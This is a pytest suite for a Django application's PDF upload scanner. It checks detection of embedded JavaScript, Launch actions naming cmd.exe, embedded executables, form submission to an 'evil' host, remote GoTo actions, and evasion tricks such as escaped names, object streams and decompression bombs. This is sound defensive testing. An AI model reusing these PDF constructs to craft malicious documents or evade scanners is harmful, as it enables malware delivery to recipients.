"""What a PDF would do besides showing pages."""

import random
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile

from documents import pdf, pdf_scan, services
from documents.models import StoredFile

PAGE = b"<</Type/Page>>"


def paper(*objects: bytes, trailer: bytes = b"") -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, text) for number, text in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R " + trailer + b">>\nstartxref\n9\n%%EOF\n"


def stream(dictionary: bytes, content: bytes) -> bytes:
    return b"<<" + dictionary + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream"


def packed(text: bytes) -> bytes:
    return stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(text))


def numbered(*objects) -> bytes:
    """A stream of packed objects, given as number and text by turns."""
    head, text = b"", b""
    for number, packed_one in zip(objects[::2], objects[1::2], strict=True):
        head += b"%d %d " % (number, len(text))
        text += packed_one + b" "
    return stream(b"/Type/ObjStm/Filter/FlateDecode/First %d" % len(head), zlib.compress(head + text))


def listed(head, text) -> bytes:
    """A stream of packed objects with the list of their numbers and places as it is given."""
    return stream(b"/Type/ObjStm/Filter/FlateDecode/First %d" % len(head), zlib.compress(head + text))


ADDRESS = b"<</S/URI/URI(http://a.example/)>>"
LINKED = b"<</Type/Page/Annots[<</Subtype/Link/A" + ADDRESS + b">>]>>"


@pytest.mark.abuse("AC-096")
@pytest.mark.parametrize(
    ("data", "found"),
    [
        (paper(b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"), pdf_scan.SCRIPT),
        (paper(b"<</S/Java#53cript>>"), pdf_scan.SCRIPT),
        (paper(b"<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>"), pdf_scan.LAUNCH),
        (paper(b"<</Names<</EmbeddedFiles 3 0 R>>>>"), pdf_scan.EMBEDDED),
        (paper(b"<</Type/EmbeddedFile>>"), pdf_scan.EMBEDDED),
        (paper(b"<</Subtype/FileAttachment/FS 6 0 R>>"), pdf_scan.EMBEDDED),
        (paper(b"<</AF[6 0 R]>>", b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"), pdf_scan.EMBEDDED),
        (paper(b"<</Subtype/RichMedia>>"), pdf_scan.MEDIA),
        (paper(b"<</AcroForm<</Fields[]/XFA 5 0 R>>>>"), pdf_scan.FORM),
        (paper(b"<</OpenAction<</S/SubmitForm/F<</FS/URL/F(http://evil/)>>>>>>"), pdf_scan.SENDING),
        (paper(b"<</S/ImportData/F(a.fdf)>>"), pdf_scan.SENDING),
        (paper(b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>"), pdf_scan.ELSEWHERE),
        (paper(b"<</S/GoToE/D[0/Fit]>>"), pdf_scan.ELSEWHERE),
        (paper(b"<</Type/Catalog/OpenAction<</S/URI/URI(http://a.example/)>>>>", PAGE), pdf_scan.CALLING),
        (paper(b"<</OpenAction 3 0 R>>", PAGE, b"<</X(#29>>)/S/#55RI/#55RI(http://a.example/)>>"), pdf_scan.CALLING),
        (paper(b"<</OpenAction 9 0 R>>", PAGE, numbered(3, b"[0]", 9, ADDRESS)), pdf_scan.CALLING),
        (paper(b"<</OpenAction 3 0 R>>", PAGE, b"<</S/GoTo/D[2 0 R/Fit]/Next[4 0 R]>>", ADDRESS), pdf_scan.CALLING),
        (paper(b"<</OpenAction 3 0 R>>", PAGE, *[b"<</Next %d 0 R>>" % n for n in range(4, 30)]), pdf_scan.EXCESSIVE),
        (paper(b"<</OpenAction 3 0 R>>" * 60, PAGE, b"<<>>"), pdf_scan.EXCESSIVE),
        (paper(b"<</OpenAction<</Next[" + b"%d 0 R " * 6 % (*range(4, 10),) + b"]>>>>", PAGE), pdf_scan.EXCESSIVE),
        (paper(b"<</OpenAction 3 0 R>>", PAGE) + b"0003\t0\0obj" + ADDRESS, pdf_scan.CALLING),
        (paper(b"<</OpenAction 9 0 R>>", PAGE, listed(b"%7 \n9 0 ", ADDRESS)), pdf_scan.CALLING),
        (paper(b"<</OpenAction 9 0 R>>", PAGE, listed(b"5\x009\x009\x000 ", ADDRESS)), pdf_scan.CALLING),
        (paper(b"<</OpenAction 9 0 R>>", PAGE, listed(b"5 /9 9 0 ", ADDRESS)), pdf_scan.EXCESSIVE),
        (paper(b"<</OpenAction 2 0 R/URI<</Base(a)>>>>", b"<</S/GoTo/D[3 0 R/Fit]>>", LINKED), None),
        (paper(b"<</OpenAction[3 0 R/Fit]>>", LINKED, numbered(3, ADDRESS)), None),
        (paper(b"<</OpenAction 9 0 R>>", LINKED, numbered(4, ADDRESS, 9, b"<</S/GoTo>>", 5, ADDRESS)), None),
        (paper(b"<</OpenAction 38 0 R>>", PAGE, numbered(3, b"[0]", 5, ADDRESS, 6, b"[0]", 4, b"[0]")), None),
        (paper(PAGE, b"<</A<</S/URI/URI(http://a.example/)>>>>", b"<</S/GoTo/D[1 0 R/Fit]>>"), None),
        (paper(b"<<>>", trailer=b"/Encrypt 5 0 R"), pdf_scan.ENCRYPTED),
        (paper(packed(b"1 0 <</S/JavaScript>>")), pdf_scan.SCRIPT),
        (paper(stream(b"/Type/Obj#53tm/Filter/FlateDecode", zlib.compress(b"<</S/Launch>>"))), pdf_scan.LAUNCH),
        (paper(*[b"<</Type /Page>>"] * 2001), pdf_scan.EXCESSIVE),
        (paper(*[b"<</Type /Page>>"] * 2000), None),
        (paper(PAGE, b"<</Kids [" + b"1 0 R " * 2001 + b"]>>"), pdf_scan.EXCESSIVE),
        (paper(PAGE, b"<</Kids [" + b"1 0 R " * 2000 + b"]>>"), None),
        (paper(PAGE, stream(b"", b"a picture with /JavaScript in its bytes")), None),
        (paper(PAGE, b"<</Title(JavaScript)/Launched 1>>"), None),
        (paper(packed(b"1 0 <</Type /Page>>")), None),
        (paper(b"<</Type/Catalog>>"), pdf_scan.PAGELESS),
        (paper(b"<</Type/Pages/Kids[]/Count 0>>"), pdf_scan.PAGELESS),
        (paper(packed(b"1 0 <</Type/Pages/Kids[]>>")), pdf_scan.PAGELESS),
        (paper(stream(b"", b"a picture with /Type/Page in its bytes")), pdf_scan.PAGELESS),
        (paper(stream(b"/Type/ObjStm/Filter/LZWDecode", b"\x80\x0b\x60")), pdf_scan.UNREADABLE),
    ],
)
def test_what_is_found(data, found):
    assert pdf_scan.trouble(data) == found


HEX = zlib.compress(b"<</S/JavaScript>>").hex().encode() + b">"


@pytest.mark.abuse("AC-096")
@pytest.mark.parametrize(
    ("data", "found"),
    [
        (paper(PAGE, b"%stream\n<</S/JavaScript>>\n%endstream\n"), pdf_scan.SCRIPT),
        (paper(PAGE, b"<<%>>stream\n/OpenAction<</S/JavaScript>>\n%endstream\n>>"), pdf_scan.SCRIPT),
        (paper(PAGE, b"[(>>stream\n)<</S/JavaScript>>(endstream)]"), pdf_scan.SCRIPT),
        (paper(PAGE, b"[(\\)(>>stream\n))<</S/Launch>>(endstream)]"), pdf_scan.LAUNCH),
        (paper(PAGE, stream(b"", b"9 0 obj\n<</S/JavaScript>>\nendobj")), pdf_scan.SCRIPT),
        (paper(PAGE, stream(b"", b"x9\0 00\n\nobj<</S/JavaScript>>\nendobj")), pdf_scan.SCRIPT),
        (paper(PAGE, stream(b"", b"trailer<</Root<</OpenAction<</S/JavaScript>>>>>>")), pdf_scan.SCRIPT),
        (paper(PAGE, b"<</Length 3>>\nstream\nabc"), pdf_scan.UNREADABLE),
        (paper(PAGE, b"<</Length 3>>\nstream\nabc\nendobj\n9 0 obj<</S/JavaScript>>"), pdf_scan.SCRIPT),
        (paper(PAGE, b"(never closed"), pdf_scan.UNREADABLE),
        (paper(PAGE, stream(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", HEX)), pdf_scan.UNREADABLE),
        (paper(PAGE, stream(b"/Type/ObjStm/Filter[/Fl/Fl]", zlib.compress(zlib.compress(b"1")))), pdf_scan.UNREADABLE),
        (paper(PAGE, stream(b"/Type/ObjStm/Filter/FlateDecode", b"no zlib")), pdf_scan.UNREADABLE),
        (paper(PAGE, stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"1 0")[:-5])), pdf_scan.UNREADABLE),
        (paper(PAGE, stream(b"/Type/ObjStm", b"1 0 <</S/JavaScript>>")), pdf_scan.SCRIPT),
        (paper(PAGE, b"%a comment (open and a stream\n<</Title(a \\( b (c) d)>>"), None),
    ],
)
def test_nothing_hides_where_a_careless_scan_would_not_look(data, found):
    assert pdf_scan.trouble(data) == found


@pytest.mark.abuse("AC-096")
def test_an_object_bomb_is_excessive_and_not_inflated(monkeypatch):
    monkeypatch.setattr(pdf_scan, "MAX_INFLATED", 100_000)
    assert pdf_scan.trouble(paper(packed(bytes(100_001)))) == pdf_scan.EXCESSIVE
    assert pdf_scan.trouble(paper(packed(bytes(60_000)), packed(bytes(60_000)))) == pdf_scan.EXCESSIVE
    assert pdf_scan.trouble(paper(PAGE, packed(bytes(99_000)))) is None


@pytest.mark.abuse("AC-096")
@pytest.mark.parametrize(
    ("limit", "content"),
    [("MAX_STRUCTURE", b"<</Type/X>>\n" * 100), ("MAX_STRUCTURE", stream(b"", b"9 0 obj" + b" " * 1000)),
     ("MAX_HEADS", stream(b"/Type/ObjStm/First 1000", b"1 0 " * 400))],
)  # fmt: skip
def test_what_has_to_be_gone_through_again_and_again_is_not_endless(monkeypatch, limit, content):
    """Twenty megabytes of object numbers held a worker for minutes; pictures may be as large as an upload."""
    assert pdf_scan.trouble(paper(PAGE, content)) is None
    monkeypatch.setattr(pdf_scan, limit, 900)
    assert pdf_scan.trouble(paper(PAGE, content)) == pdf_scan.EXCESSIVE
    assert pdf_scan.trouble(paper(PAGE, stream(b"", bytes(1000)))) is None


@pytest.mark.abuse("AC-096")
@pytest.mark.parametrize(
    "content",
    [packed(b"#41" * 1100), b"%\n" * 1100, b"(" * 600 + b")" * 600, packed(b"") * 110, b"/#41#42" * 600],
    ids=["packed escapes", "comments", "strings", "packed streams", "escapes"],
)
def test_what_is_made_of_endless_small_pieces_is_excessive(monkeypatch, content):
    monkeypatch.setattr(pdf_scan, "MAX_STEPS", 1000)
    assert pdf_scan.trouble(paper(PAGE, content)) == pdf_scan.EXCESSIVE
    assert pdf_scan.trouble(paper(PAGE, content[: len(content) // 3])) != pdf_scan.EXCESSIVE


def test_our_own_forms_pass():
    assert pdf_scan.trouble(pdf.render("<p>评审表</p>", watermark="职评")) is None


@pytest.mark.abuse("AC-096")
@pytest.mark.django_db
def test_the_upload_says_what_to_do(cast):
    file = ContentFile(paper(b"<</S/JavaScript>>"), name="材料.pdf")
    with pytest.raises(ValidationError) as caught:
        services.store(file, owner=cast.lin.user, kind=StoredFile.Kind.EVIDENCE)
    assert caught.value.messages == ["PDF 中含有脚本，请用“打印为 PDF”重新生成后再上传。"]


@pytest.mark.abuse("AC-096")
def test_random_bytes_never_raise():
    dice = random.Random(96)
    for _ in range(100):
        body = dice.randbytes(400)
        pdf_scan.trouble(b"%PDF-1.7 <<" + body[:20] + b">> stream\n" + body + b"endstream" + dice.randbytes(50))
